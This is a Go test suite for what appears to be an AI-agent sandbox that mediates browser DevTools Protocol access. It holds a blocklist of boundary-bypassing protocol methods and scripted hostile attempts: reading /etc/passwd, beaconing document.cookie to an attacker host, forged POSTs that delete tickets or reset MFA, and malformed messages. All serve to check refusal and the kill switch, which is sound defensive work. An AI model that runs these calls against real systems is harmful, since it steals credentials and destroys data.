package attack

import (
	"encoding/base64"
	"fmt"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sallyport-dev/sallyport/internal/action"
	"github.com/sallyport-dev/sallyport/internal/estate"
	"github.com/sallyport-dev/sallyport/internal/task"
	"github.com/sallyport-dev/sallyport/test/rig"
)

// The protocol rig gives its harness the browser's protocol in the widest
// profile, in which the client's own scripts are evaluated. The privileged
// operation is taken out of the task: with it, that profile is refused.
var (
	protocolOnce sync.Once
	protocolRig  *rig.Rig
	protocolErr  error
	protocolSeen hostileTap
)

func withProtocol(t *testing.T) *rig.Rig {
	t.Helper()
	if testing.Short() {
		t.Skip("starts browsers")
	}
	protocolOnce.Do(func() {
		protocolSeen.Intercept, protocolSeen.Page = protocolSeen.intercept, protocolSeen.page
		protocolRig, protocolErr = rig.Start(rig.Options{HoldLimit: time.Second, Before: protocolSeen.Start, Edit: func(f map[string][]byte) {
			rig.Replace("agent.yaml", "browser: {kind: shell}", "browser: {kind: shell, protocol: open}")(f)
			rig.Replace("capability.yaml", "    - operation: iam.user.mfa.reset\n      where: {user: \"{{user}}\"}\n      max: 1\n", "")(f)
			rig.Replace("capability.yaml", "  holds:\n    - operation: iam.user.mfa.reset\n      approvers: approver\n      expiresSeconds: 600\n", "")(f)
		}})
	})
	if protocolErr != nil {
		t.Fatal(protocolErr)
	}
	fresh(t, protocolRig)
	return protocolRig
}

// speak runs the protocol program and returns what came of each step.
func speak(t *testing.T, r *rig.Rig, steps ...string) (task.Task, []string, string) {
	t.Helper()
	x, out := r.Run(t, rig.Intent(action.Sandbox, "jo", "4711"), append([]string{"program", "protocol"}, steps...)...)
	got := make([]string, len(steps))
	came := ""
	for l := range strings.Lines(out) {
		var i int
		if m, ok := strings.CutPrefix(l, "came:"); ok {
			came += m
		} else if _, rest, ok := strings.Cut(l, " -> "); ok {
			if fmt.Sscan(l, &i); i < len(got) {
				got[i] = strings.TrimSpace(rest)
			}
		}
	}
	if x.State != task.Closed {
		t.Fatalf("the task is %s: %s\n%.3000s", x.State, x.Why, out)
	}
	return x, got, came
}

// notorious are methods that get around a boundary by themselves. They are here
// by name, so that no change of the door's own table lets one through unseen.
const notorious = `Target.sendMessageToTarget Target.exposeDevToolsProtocol Target.openDevTools Target.setRemoteLocations Extensions.loadUnpacked Security.setIgnoreCertificateErrors
Page.addCompilationCache Page.setDocumentContent Page.setBypassCSP Page.captureSnapshot Page.printToPDF Network.setExtraHTTPHeaders Network.setCookie Network.setCookies Storage.setCookies Storage.getCookies
Network.getCookies Network.getAllCookies Network.getRequestPostData Network.getResponseBody Network.loadNetworkResource Network.replayXHR Network.setBypassServiceWorker WebAuthn.enable WebAuthn.addVirtualAuthenticator
WebAuthn.getCredentials DOM.setOuterHTML DOM.setAttributeValue Input.synthesizeTapGesture Input.imeSetComposition WebMCP.invokeTool
FedCm.selectAccount Autofill.trigger DeviceAccess.selectPrompt HeapProfiler.takeHeapSnapshot Tracing.start IO.read Tethering.bind Emulation.setPageScaleFactor Emulation.setVisibleSize
Emulation.setScriptExecutionDisabled Input.setIgnoreInputEvents Debugger.enable Debugger.setScriptSource ServiceWorker.deliverPushMessage ServiceWorker.dispatchSyncEvent Runtime.compileScript Runtime.runScript
DOMStorage.getDOMStorageItems IndexedDB.requestData CacheStorage.requestEntries Fetch.enable Fetch.continueRequest Fetch.continueWithAuth Browser.grantPermissions Browser.executeBrowserCommand Browser.crash
FileSystem.getDirectory PWA.install SystemInfo.getInfo Cast.startTabMirroring DigitalCredentials.setVirtualWalletBehavior`

// deniedMethods are those, and all that the door's own table refuses in every profile.
func deniedMethods(t *testing.T) []string {
	t.Helper()
	out := strings.Fields(notorious)
	b, err := os.ReadFile("../../internal/surface/cdp/methods.txt")
	if err != nil {
		t.Fatal(err)
	}
	for l := range strings.Lines(string(b)) {
		if f := strings.Split(l, " | "); len(f) > 2 && strings.TrimSpace(f[1]) == "deny" {
			out = append(out, f[0])
		}
	}
	return out
}

// A harness has the browser's protocol and calls everything that gets around a
// boundary: every method that the door refuses, on the page and on the browser,
// methods that do not exist, other spellings, members that a method must not
// have, other targets and sessions, addresses that are no pages, and the door's
// own HTTP. Each must be refused, and the page lives on.
//
// Threats: T1, T3, T4, T5, T7, T8, T9, T10, T11, T12, T18, T20, T21, T22, T34, T46, T47, T48, H1, B5 (form)
func TestProtocolRefuses(t *testing.T) {
	r := withProtocol(t)
	page := protocolSeen.URL(estate.Tickets) + "/tickets/4711"
	const refused, alive = `"error":`, `"value":"alive"`
	var steps, want []string
	add := func(answer string, s ...string) {
		for _, s := range s {
			steps, want = append(steps, s), append(want, answer)
		}
	}
	add("", "page:Page.navigate {\"url\":\""+page+"\"}", "wait:500")
	methods := deniedMethods(t)
	if len(methods) < 400 {
		t.Fatalf("the table refuses %d methods", len(methods))
	}
	for _, m := range methods { // refused by name, and not for its parameters
		add("(cdp_denied_method)", "page:"+m+" {}")
	}
	add("", "each:"+strings.Join(methods, " "))
	want[len(want)-1] = "none"
	add(refused, "page:Evil.method {}", "page:page.navigate {\"url\":\"http://x/\"}", "page:Page.Navigate {\"url\":\"http://x/\"}", "page:Page.navigate\\u0020 {}", "page: {}", "page:Page {}", "page:Page. {}",
		"root:Target.createBrowserContext {\"proxyServer\":\"http://127.0.0.1:1\"}", "root:Target.createBrowserContext {\"originsWithUniversalNetworkAccess\":[\"*\"]}",
		"page:Runtime.evaluate {\"expression\":\"1\",\"replMode\":true}", "page:Runtime.evaluate {\"expression\":\"1\",\"allowUnsafeEvalBlockedByCSP\":true}",
		"page:Runtime.evaluate {\"expression\":\"1\",\"contextId\":1e9}", "page:Runtime.evaluate {\"expression\":\"1\",\"uniqueContextId\":\"1.1\"}", "page:Page.captureScreenshot {\"format\":\"png\",\"evil\":1}",
		"root:Target.attachToTarget {\"targetId\":\"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\",\"flatten\":true}", "root:Target.createTarget {\"url\":\"about:blank\",\"browserContextId\":\"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"}",
		"root:Target.closeTarget {\"targetId\":\"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"}", "root:Target.attachToTarget {\"targetId\":\"1\",\"flatten\":false}", "root:Target.setAutoAttach {\"autoAttach\":true,\"waitForDebuggerOnStart\":true,\"flatten\":false}",
		"page:Page.createIsolatedWorld {\"frameId\":\"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\",\"grantUniveralAccess\":true}",
		"page:Emulation.setUserAgentOverride {\"userAgent\":\"other\"}", "page:Input.dispatchMouseEvent {\"type\":\"mouseReleased\",\"x\":5,\"y\":5,\"button\":\"left\",\"clickCount\":1}",
		"page:Input.dispatchMouseEvent {\"type\":\"mousePressed\",\"x\":5,\"y\":5,\"button\":\"left\",\"clickCount\":1,\"pointerType\":\"pen\"}", "page:Input.dispatchMouseEvent {\"type\":\"mousePressed\",\"x\":5000,\"y\":5,\"button\":\"left\",\"clickCount\":1}",
		"page:Input.dispatchKeyEvent {\"type\":\"keyDown\",\"key\":\"F5\"}", "page:Input.dispatchKeyEvent {\"type\":\"keyDown\",\"key\":\"r\",\"modifiers\":2}", "page:Input.dispatchKeyEvent {\"type\":\"keyDown\",\"key\":\"a\",\"commands\":[\"paste\"]}",
		"page:Input.dispatchKeyEvent {\"type\":\"keyDown\",\"key\":\"Left\",\"modifiers\":1}", "page:Page.setDownloadBehavior {\"behavior\":\"allow\",\"downloadPath\":\"/tmp\",\"evil\":1}")
	for _, u := range []string{"file:///etc/passwd", "chrome://version", "devtools://devtools", "view-source:" + page, "javascript:alert(1)", "data:text/html,x", "blob:" + page, "filesystem:" + page, "FILE:///etc/passwd", " file:///etc/passwd", "file\\t:///etc/passwd", "chrome-extension://a/b", "about:srcdoc", "http:\\\\evil", "ftp://x/"} {
		add(refused, `page:Page.navigate {"url":"`+strings.ReplaceAll(u, `http:\\`, `http:\\\\`)+`"}`, `root:Target.createTarget {"url":"`+strings.ReplaceAll(u, `http:\\`, `http:\\\\`)+`"}`)
	}
	// The console's functions hand out listeners, the guard's too: asked for, and not there.
	add(`"value":"undefined"`, `page:Runtime.evaluate {"expression":"typeof getEventListeners","includeCommandLineAPI":true}`)
	// Uploads name what the harness has put into its store, and no path of the machine.
	add(refused, `page:DOM.setFileInputFiles {"files":["/etc/passwd"],"backendNodeId":1}`, `page:DOM.setFileInputFiles {"files":["/uploads/../etc/passwd"],"backendNodeId":1}`)
	add("", "page:Emulation.setDeviceMetricsOverride {\"width\":300,\"height\":300,\"deviceScaleFactor\":3,\"mobile\":true}")
	add(`"value":"1280x800x1"`, `page:Runtime.evaluate {"expression":"innerWidth+'x'+innerHeight+'x'+devicePixelRatio"}`)
	add("404", "http:GET /json/new?http://x/", "http:GET /json/close/1", "http:GET /json/activate/1", "http:GET /devtools/page/1", "http:GET /devtools/browser/1", "http:GET /json/versionx")
	add("405", "http:PUT /json/new?http://x/", "http:POST /json/version")
	add("403", "http:GET /json/version Origin: https://evil.localhost", "http:GET /json/version Host: evil.localhost", "http:GET /json/version Host: 127.0.0.1.evil.localhost", "http:GET /json/version Sec-Fetch-Site: cross-site")
	add("409", "second")
	add(`found ""`, "hidden")
	add(alive, `page:Runtime.evaluate {"expression":"'alive'"}`)
	add("Session with given id not found", "again")
	add(alive, `page:Runtime.evaluate {"expression":"'alive'"}`)
	x, got, _ := speak(t, r, steps...)
	for i, w := range want {
		switch {
		case w == "none" && got[i] != "":
			t.Errorf("not refused: %s", got[i])
		case w != "none" && !strings.Contains(got[i], w):
			t.Errorf("%.150s: got %.300s, want %s", steps[i], got[i], w)
		}
	}
	if n := len(r.Denied(t, x.ID, action.LayerForm, "cdp_denied_method", nil)); n < len(methods)/2 {
		t.Errorf("%d of %d refused methods are on record", n, len(methods))
	}
}

// The same harness sends what is no request, or is one to one reader and another
// to the next. None may act; a few are answered, and then the connection ends.
//
// Threats: T2, M1 (form)
func TestProtocolIsReadStrictly(t *testing.T) {
	r := withProtocol(t)
	const evil = `"sessionId":"SESSION","method":"Runtime.evaluate","params":{"expression":"document.title='done by a malformed message'"}`
	var steps []string
	for _, m := range []string{`{"id":1000001,"id":1000002,` + evil + `}`, `{"id":1000003,"method":"Page.enable",` + evil + `}`, `{"id":1000004,` + evil + `,"params":{}}`, `{"id":1000005,` + evil + `}{"id":1000006}`,
		`[{"id":1000007,` + evil + `}]`, `{"ID":1000008,` + evil + `}`, `{"id":9007199254740993,` + evil + `}`, `{"id":1.5,` + evil + `}`, `{"id":"1",` + evil + `}`, `{"id":-1,` + evil + `}`, `{` + evil + `}`, `{"id":null,` + evil + `}`,
		`{"id":1000009,` + evil + `,"extra":1}`, `{"id":1000010,` + evil + `,"sessionId":"SESSION"}`, `{"id":1000011,"method":"Runtime.evaluate","params":[1]}`, "\ufeff{\"id\":1000012," + evil + "}", `{"id":1000013,` + strings.Replace(evil, "SESSION", "0123456789ABCDEF0123456789ABCDEF", 1) + `}`,
		strings.Repeat("[", 10000), `{"id":1000014,"params":` + strings.Repeat(`{"a":`, 2000) + "1" + strings.Repeat("}", 2000) + `,"method":"Page.enable"}`} {
		steps = append(steps, "text:"+base64.StdEncoding.EncodeToString([]byte(m)))
	}
	_, got, _ := speak(t, r, append(steps, `page:Runtime.evaluate {"expression":"document.title"}`)...)
	for i := range steps {
		if !strings.Contains(got[i], `"value":"alive"`) {
			t.Errorf("after %d: %.200s", i, got[i])
		}
	}
	if title := got[len(steps)]; !strings.Contains(title, `"value":`) || strings.Contains(title, "malformed") {
		t.Errorf("the title: %s", title)
	}
	for name, m := range map[string]string{"binary": "binary:" + base64.StdEncoding.EncodeToString([]byte(`{"id":1000001,`+evil+`}`)), "utf8": "text:" + base64.StdEncoding.EncodeToString([]byte("{\"id\":1,\"x\":\"\xff\"}"))} {
		if _, got, _ := speak(t, r, m); name == "binary" && got[0] != "closed" || strings.Contains(got[0], "malformed") {
			t.Errorf("%s: %s", name, got[0])
		}
	}
}

// The same harness evaluates scripts of its own, which may do what a page may:
// write without a click, from the page's world and from one of its own, with a
// claimed gesture; answer dialogs; type a password. Door 2 and the guardrails
// must stop each, and nothing that came over the whole connection may hold a
// session or a password.
//
// Threats: T13, T14, T16, T17 (guardrail, hold); T44, T47, H4, H5 (door, browser)
func TestProtocolScriptsCannotAct(t *testing.T) {
	r := withProtocol(t)
	page := protocolSeen.URL(estate.Tickets) + "/tickets/4711"
	post := func(to string) string {
		return fmt.Sprintf(`{"expression":"fetch('%s',{method:'POST',credentials:'include',body:new URLSearchParams({_csrf:document.querySelector('meta[name=csrf-token]').content})}).then(r=>r.status,e=>'failed')","awaitPromise":true,"userGesture":true}`, to)
	}
	iam := protocolSeen.URL(estate.IAM)
	steps := []string{`page:Page.navigate {"url":"` + page + `"}`, "wait:800", // no input explains anything
		`page:Runtime.evaluate ` + post("/tickets/4712/delete"), `page:Runtime.evaluate ` + post("/tickets/4712/close"), `page:Runtime.evaluate ` + post(iam+"/users/jo/mfa/reset"), `page:Runtime.evaluate ` + post(iam+"/users/sam/disable"),
		`page:Runtime.evaluate {"expression":"document.querySelector('#close button').click()","userGesture":true}`, "wait:1300",
		`page:Page.navigate {"url":"` + page + `"}`, `page:Runtime.evaluate {"expression":"navigator.sendBeacon('` + protocolSeen.URL(estate.Evil) + `/collect',document.cookie)"}`,
		`page:Page.addScriptToEvaluateOnNewDocument {"source":"fetch('/tickets/4713/delete',{method:'POST',body:new URLSearchParams({_csrf:'x'})})"}`, `page:Page.reload {}`, "wait:300",
		`page:Runtime.evaluate {"expression":"new Worker(URL.createObjectURL(new Blob(['fetch(\"` + page + `/delete\",{method:\"POST\"})']))).toString()"}`,
		`page:Runtime.evaluate {"expression":"String(confirm('Delete everything?'))"}`, `page:Page.handleJavaScriptDialog {"accept":true}`,
		`page:Runtime.evaluate {"expression":"document.body.innerHTML='<input type=password id=p>';p.focus();1"}`, `page:Input.insertText {"text":"hunter22hunter22"}`, `page:Runtime.evaluate {"expression":"p.value"}`,
		`page:Runtime.evaluate {"expression":"p.value=['typed','by','somebody'].join('-');1"}`, `page:Accessibility.getFullAXTree {}`,
		`page:Runtime.evaluate {"expression":"fetch('/account/sessions').then(r=>r.text())","awaitPromise":true}`, `page:Runtime.evaluate {"expression":"document.cookie"}`, "wait:300"}
	before := r.State(action.Sandbox)
	protocolSeen.mu.Lock()
	protocolSeen.seen = nil
	protocolSeen.mu.Unlock()
	r.Approver(rig.Nobody) // what is asked of people is not what this is about
	x, got, came := speak(t, r, steps...)
	after := r.State(action.Sandbox)
	if c := rig.Changes(before, after); len(c) > 0 {
		t.Errorf("changed: %q", c)
	}
	for _, q := range protocolSeen.arrived(wrote) {
		t.Errorf("reached an application: %s %s%s", q.method, q.host, q.uri)
	}
	for _, want := range []struct{ i, op string }{{"/tickets/4712/delete", "tickets.ticket.delete"}, {"/tickets/4712/close", "tickets.ticket.close"}, {"/users/jo/mfa/reset", "iam.user.mfa.reset"}, {"/users/sam/disable", "iam.user.disable"}, {"/tickets/4711/close", "tickets.ticket.close"}, {"/tickets/4713/delete", "tickets.ticket.delete"}} {
		found := false
		for _, d := range r.Decisions(t, x.ID) {
			found = found || d.Action.Request != nil && d.Action.Request.Path == want.i && d.Decision.Verdict != action.Allow
		}
		if !found {
			t.Errorf("%s left no denial: it was not tried", want.i)
		}
	}
	for i, s := range steps {
		switch {
		case strings.Contains(s, "confirm("):
			if !strings.Contains(got[i], `"value":"false"`) {
				t.Errorf("the question was answered: %s", got[i])
			}
		case strings.Contains(s, "insertText"):
			if !strings.Contains(got[i], "secret_field") {
				t.Errorf("typing into a password field: %s", got[i])
			}
		case strings.Contains(s, "getFullAXTree"):
			if !strings.Contains(got[i], "textbox") || strings.Contains(got[i], "typed-by-somebody") {
				t.Errorf("the tree has a password, or no field: %s", got[i])
			}
		case strings.Contains(s, `"p.value"`):
			if !strings.Contains(got[i], `"value":""`) {
				t.Errorf("the password field holds %s", got[i])
			}
		}
	}
	secrets := protocolSeen.Cookies()
	for _, s := range r.Secrets() {
		secrets = append(secrets, s)
	}
	if len(secrets) < 4 || len(came) < 10000 {
		t.Fatalf("%d secrets, %d bytes came", len(secrets), len(came))
	}
	for i, s := range secrets {
		if strings.Contains(came, s) {
			t.Errorf("secret %d came over the protocol", i)
		}
	}
}

// A kill ends the protocol's client too: when it has returned, no script is
// evaluated any more.
//
// Threats: T57 (authority)
func TestKillEndsTheProtocol(t *testing.T) {
	r := withProtocol(t)
	x := r.OpenTask(t, rig.Intent(action.Sandbox, "jo", "4711"))
	var out rig.Output
	running, err := r.Server.Run(t.Context(), "", x.ID, rig.Harness(t, &out, "program", "protocol", "loop"))
	if err != nil {
		t.Fatal(err)
	}
	rig.Await(t, "the client", func() bool { return strings.Count(out.String(), "loop") > 20 })
	if _, err := r.Server.Revoke(t.Context(), "", rig.As("ada"), "task/"+x.ID, "test"); err != nil {
		t.Fatal(err)
	}
	n := strings.Count(out.String(), "loop")
	if x = rig.Wait(t, running); x.State != task.Revoked {
		t.Errorf("the task is %s: %s", x.State, x.Why)
	}
	if got := strings.Count(out.String(), "loop"); got > n {
		t.Errorf("%d scripts were evaluated after the kill", got-n)
	}
	r.NoSessions(t, action.Sandbox)
}
